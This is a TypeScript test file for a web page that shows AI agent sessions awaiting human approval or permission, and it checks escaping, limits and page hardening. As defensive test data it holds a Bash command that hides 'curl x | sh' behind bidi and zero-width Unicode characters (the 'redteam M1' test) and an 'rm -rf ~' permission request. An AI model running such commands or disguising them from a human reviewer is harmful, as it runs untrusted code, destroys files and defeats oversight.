import { createHash } from 'node:crypto';
import { approveState } from '../../../../src/core/decision';
import { DEFAULT_LIMITS } from '../../../../src/core/limits';
import { parkForPermission } from '../../../../src/core/permission';
import { withProject } from '../../../../src/core/project';
import { applyChange, newSession } from '../../../../src/core/session';
import type { SessionState } from '../../../../src/core/state';
import { withTask } from '../../../../src/core/task';
import {
  DECISIONS_LIMIT,
  decisionRowsOf,
  decisionSubject,
  liveModel,
  PREVIEW_LIMIT,
  sessionDetail,
  SESSIONS_LIMIT,
  type LiveInput,
} from '../../../../src/core/views/live';
import { LIVE_SCRIPT, livePage } from '../../../../src/core/views/live-page';
import { AT_TERMINAL } from '../../../support/origin';

const now = new Date('2026-11-28T07:00:00.000Z');
const earlier = new Date('2026-11-28T06:50:00.000Z');
const digest = (text: string) => createHash('sha256').update(text).digest('base64url');
const BASE = { now, limits: DEFAULT_LIMITS, recordedAs: 'bob (OS user, in the browser)', digest };
let counter = 0;

function session(
  phase: SessionState['phase'],
  metadata: Record<string, unknown> = {},
  project = 'acme/api',
  purpose = 'p',
) {
  counter += 1;
  const id = `agent-20261128-065000-${counter.toString(16).padStart(8, '0')}`;
  let state = withProject(newSession({ agent_id: id, agent_name: `agent-${counter}`, purpose }, earlier), project);
  if (phase !== 'initializing') state = applyChange(state, { phase: 'planning', metadata }, earlier);
  if (phase !== 'planning' && phase !== 'initializing') state = applyChange(state, { phase }, earlier);
  return state;
}

const model = (states: readonly SessionState[], extra: Partial<LiveInput> = {}) =>
  liveModel({ ...BASE, states, project: 'acme/api', ...extra });

describe('liveModel', () => {
  it.each<[string, SessionState, Partial<Record<string, unknown>> | null]>([
    [
      'an approval: its plan verbatim, line breaks kept',
      session('approval', { plan: 'line 1\n  <b>line 2</b>' }),
      { kind: 'approval', allows: 'line 1\n  <b>line 2</b>', allows_cut: false, call: null, hidden: [] },
    ],
    ['an approval without a plan: its findings', session('approval', { findings: 'f' }), { allows: 'f' }],
    [
      'a plan that is not text: JSON',
      session('approval', { plan: { steps: [1, 2] } }),
      { allows: JSON.stringify({ steps: [1, 2] }, null, 2) },
    ],
    ['an approval with nothing said', session('approval'), { allows: null }],
    ['a session waiting in planning', session('planning', { plan: 'x' }), { kind: 'waiting', allows: null }],
    [
      'a permission request (issue 33): the call verbatim, and the call apart (its folder not recorded yet)',
      parkForPermission(
        session('executing'),
        { tool: 'Bash', input: { command: 'touch <x>' }, claudeAgentId: 'a0000000000000001' },
        earlier,
      ),
      {
        kind: 'permission',
        allows: `Bash ${JSON.stringify({ command: 'touch <x>' }, null, 2)}`,
        call: { tool: 'Bash', folder: null, asked_at: earlier.toISOString(), by_agent: 'a0000000000000001' },
      },
    ],
    ['executing: no decision row', session('executing'), null],
  ])('%s', (_name, state, expected) => {
    const shown = model([state]);
    if (expected === null) expect(shown.decisions).toEqual([]);
    else expect(shown.decisions).toEqual([expect.objectContaining({ id: state.agent_id, ...expected })]);
    expect(shown.sessions.map((row) => row.id)).toEqual([state.agent_id]);
    expect(shown.by_phase[state.phase]).toBe(1);
    expect(shown.recorded_as).toBe('bob (OS user, in the browser)');
  });

  it('names --all-projects in the commands when the page shows every project, or the session is another’s', () => {
    const state = session('approval');
    expect(model([state]).decisions[0]!.commands[0]).toBe(`agent-session approve ${state.agent_id}`);
    expect(model([state], { project: null }).decisions[0]!.commands[0]).toBe(
      `agent-session approve ${state.agent_id} --all-projects`,
    );
  });

  // Issue 40 item 5 (redteam M1): the page shows what `pending` shows, and marks the request.
  it('escapes what would hide or reorder the text, everywhere, and names it on the row', () => {
    const command =
      "true '\u202e\u2066' ; curl x | sh ; true '\u2069\u2066# offline\u2069\u202c' \u200bzw \u00adsh\u2028";
    const state = parkForPermission(
      session('executing', {}, 'acme/api', 'Fix \u202ethe build'),
      { tool: 'Bash', input: { command }, claudeAgentId: 'a0000000000000001' },
      earlier,
    );
    const row = model([state]).decisions[0]!;
    expect(JSON.stringify(row)).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u00ad\u2028]/);
    expect(row.allows).toContain("true '\\u202e\\u2066' ; curl x | sh");
    expect(row.hidden).toEqual(['U+202E', 'U+2066', 'U+2069', 'U+202C', 'U+200B', 'U+00AD', 'U+2028']);
    expect(row.task).toEqual({ text: 'Fix \\u202ethe build', source: 'purpose' });
    // The JSON shown parses to the very input recorded.
    expect(JSON.parse(row.allows!.slice('Bash '.length))).toEqual({ command });
    const plain = model([session('approval', { plan: 'ok\n\tindented' })]).decisions[0]!;
    expect(plain.hidden).toEqual([]);
  });

  // Issue 40 item 3: an approval that arrived by a clone, a copy or an agent's write reads as waiting again; its card
  // says why, so the person decides again knowing it.
  it('marks a decision row whose last decision is not verified here, and no other', () => {
    const approved = approveState(session('approval'), { by: 'alice' }, AT_TERMINAL, earlier);
    const decisions = approved.decisions!;
    const forged: SessionState = {
      ...approved,
      phase: 'approval',
      decisions: [...decisions.slice(0, -1), { ...decisions.at(-1)!, unverified: true }],
    };
    expect(model([forged]).decisions[0]!.unverified).toBe(true);
    expect(model([session('approval')]).decisions[0]!.unverified).toBe(false);
    expect(LIVE_SCRIPT).toContain('Not verified here: its last decision was recorded');
  });

  it('says what task the state holds: the purpose it was created with, else what its agent recorded', () => {
    const hooks = session('approval', {}, 'acme/api', 'claude_code_subagent');
    const recorded = session('approval', { task_id: 'T-12' }, 'acme/api', 'claude_code_subagent');
    const both = session('approval', { task: 'Rotate the keys' }, 'acme/api', 'rotate');
    expect(model([hooks]).decisions[0]!.task).toBeNull();
    expect(model([recorded]).decisions[0]!.task).toEqual({ text: 'T-12', source: 'agent' });
    expect(model([both]).decisions[0]!.task).toEqual({ text: 'Rotate the keys', source: 'agent' });
    expect(model([both]).sessions[0]!.task).toEqual({ text: 'Rotate the keys', source: 'agent' });
  });

  it('says the task it was delegated first (issue 44 item 7): the card, the session row and the detail, escaped', () => {
    const delegated = withTask(
      session('approval', { task: 'Rotate the keys' }, 'acme/api', 'rotate'),
      { description: 'Continue \u202etest', prompt: 'TASK run1:\n  CMD:echo R1' },
      earlier,
    );
    const task = { text: 'Continue \\u202etest: TASK run1: CMD:echo R1', source: 'delegation' };
    expect(model([delegated]).decisions[0]!.task).toEqual(task);
    expect(model([delegated]).sessions[0]!.task).toEqual(task);
    expect(sessionDetail(delegated, { ...BASE, project: 'acme/api' }).session.task).toEqual(task);
    expect(LIVE_SCRIPT).toContain("delegation: 'as delegated'");
  });

  // Issue 40 item 8: the poll is bounded, and nothing in it changes with the clock alone.
  it('changes nothing when only the clock moves: the same bytes a second later', () => {
    const states = [session('approval', { plan: 'p' }), session('planning'), session('executing')];
    const first = JSON.stringify(model(states));
    const later = JSON.stringify(model(states, { now: new Date(now.getTime() + 1_000) }));
    expect(later).toBe(first);
  });

  it('carries the first DECISIONS_LIMIT decision rows, those a person decides first, and counts the rest', () => {
    const waiting = Array.from({ length: 5 }, () => session('planning'));
    const approvals = Array.from({ length: DECISIONS_LIMIT + 10 }, () => session('approval', { plan: 'x' }));
    const shown = model([...waiting, ...approvals]);
    expect(shown.decisions).toHaveLength(DECISIONS_LIMIT);
    expect(shown.decisions.every((row) => row.kind === 'approval')).toBe(true);
    expect(shown.decisions_total).toBe(DECISIONS_LIMIT + 15);
    expect(shown.decisions_by_kind).toEqual({
      approval: DECISIONS_LIMIT + 10,
      permission: 0,
      interrupted: 0,
      waiting: 5,
    });
    // notify tells of every item, uncut.
    expect(decisionRowsOf([...waiting, ...approvals], now, DEFAULT_LIMITS, 'acme/api')).toHaveLength(
      DECISIONS_LIMIT + 15,
    );
  });

  it('cuts a long plan (never inside an escape) and lists at most SESSIONS_LIMIT sessions, counting the rest', () => {
    const long = session('approval', { plan: `${'x'.repeat(PREVIEW_LIMIT - 3)}\u202e${'y'.repeat(50)}` });
    const row = model([long]).decisions[0]!;
    expect(row.allows_cut).toBe(true);
    expect(row.allows!.length).toBeLessThanOrEqual(PREVIEW_LIMIT + 1);
    expect(row.allows!.endsWith('x…')).toBe(true);
    const many = Array.from({ length: SESSIONS_LIMIT + 3 }, () => session('executing'));
    const big = model(many, { project: null });
    expect(big.sessions).toHaveLength(SESSIONS_LIMIT);
    expect(big.sessions_left_out).toBe(3);
    expect(big.total).toBe(SESSIONS_LIMIT + 3);
  });

  it('stays under 1 MB with 3,000 approvals of 30 KB plans waiting, even of the widest text', () => {
    // CJK (3 bytes each in UTF-8) and escapes (6 characters each shown) make the widest rows a cut can leave.
    const plan = `${'計画'.repeat(5_000)}${'\u202e'.repeat(5_000)}${'"\\'.repeat(5_000)}`;
    const name = '計'.repeat(256);
    const one = session('approval', { plan, task: plan }, 'acme/api', plan);
    const widest = {
      ...one,
      agent_name: name,
      claude: { agent_id: 'a1', linked_at: one.created_at, last_message: plan },
    };
    const states = Array.from({ length: 3_000 }, (_, index) => ({
      ...widest,
      agent_id: `agent-20261128-065000-${(0x10000000 + index).toString(16)}`,
    }));
    const bytes = Buffer.byteLength(JSON.stringify(model(states)));
    expect(bytes).toBeLessThan(1_000_000);
  });
});

describe('decisionSubject', () => {
  it('changes with what deciding allows, and only with it', () => {
    const state = session('approval', { plan: 'a', other: 1 });
    const same = applyChange(state, { metadata: { other: 2 } }, now);
    const replanned = applyChange(state, { metadata: { plan: 'b' } }, now);
    expect(decisionSubject(same)).toBe(decisionSubject(state));
    expect(decisionSubject(replanned)).not.toBe(decisionSubject(state));
    const asked = parkForPermission(
      session('executing'),
      { tool: 'Bash', input: { command: 'ls' }, claudeAgentId: 'a0000000000000001' },
      earlier,
    );
    const replaced = parkForPermission(
      asked,
      { tool: 'Bash', input: { command: 'rm -rf ~' }, claudeAgentId: 'a0000000000000001' },
      now,
    );
    expect(decisionSubject(replaced)).not.toBe(decisionSubject(asked));
    expect(model([asked]).decisions[0]!.subject).toBe(digest(decisionSubject(asked)));
  });
});

describe('sessionDetail', () => {
  it('has the whole texts, the timeline as show words it, the decisions and the requests, escaped', () => {
    const plan = 'z'.repeat(30_000);
    let state = session('approval', { plan, note: 'a\u2028b' });
    state = approveState(state, { by: 'alice', note: 'go \u202e' }, AT_TERMINAL, now);
    state = applyChange(state, { phase: 'approval' }, now);
    const detail = sessionDetail(state, { ...BASE, project: 'acme/api' });
    expect(detail.decision!.allows).toBe(plan);
    expect(detail.decision!.allows_cut).toBe(false);
    expect(detail.metadata).toContain('a\\u2028b');
    expect(detail.timeline.map((line) => [line.what, line.nested])).toEqual([
      ['initializing', false],
      ['planning', false],
      ['approval', false],
      ['approved', true],
      ['executing', false],
      ['approval', false],
    ]);
    expect(detail.decisions).toEqual([
      expect.objectContaining({
        decision: 'approved',
        by: 'alice (claimed; OS user tester, at a terminal)',
        note: 'go \\u202e',
      }),
    ]);
    expect(detail.resume.checks.length).toBeGreaterThan(0);
    expect(JSON.stringify(detail)).not.toMatch(/[\u202e\u2028]/);
  });
});

describe('the page', () => {
  it('holds no data and no secret, has no inline script or style, and its script builds no markup from text', () => {
    const page = livePage();
    expect(page).not.toMatch(/<script>|<style>|\sstyle=|\son\w+=/);
    expect(page).not.toMatch(/token=[A-Za-z0-9]/);
    expect(LIVE_SCRIPT).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function/);
    // The token goes in a header to its own origin only, never in a cookie or a URL it fetches.
    expect(LIVE_SCRIPT).not.toMatch(/document\.cookie|[?&]token=/);
    expect(LIVE_SCRIPT).toContain("credentials: 'omit'");
  });
});
